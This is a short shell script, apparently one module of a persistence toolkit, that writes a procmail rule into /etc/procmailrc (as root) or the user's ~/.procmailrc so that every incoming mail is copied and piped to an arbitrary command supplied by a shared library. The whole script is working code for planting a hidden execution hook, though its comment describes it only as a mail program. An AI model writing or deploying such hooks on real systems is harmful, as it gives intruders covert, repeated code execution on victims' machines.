#!/bin/sh
# procmail: a program for mail (procmailrc(5))
. "${0%/*}/lib.sh"
payload
if [ "$who" = root ]; then f=/etc/procmailrc; else f=$home/.procmailrc; fi
put "$f" 644 "$head" ":0 c" "| $cmd"
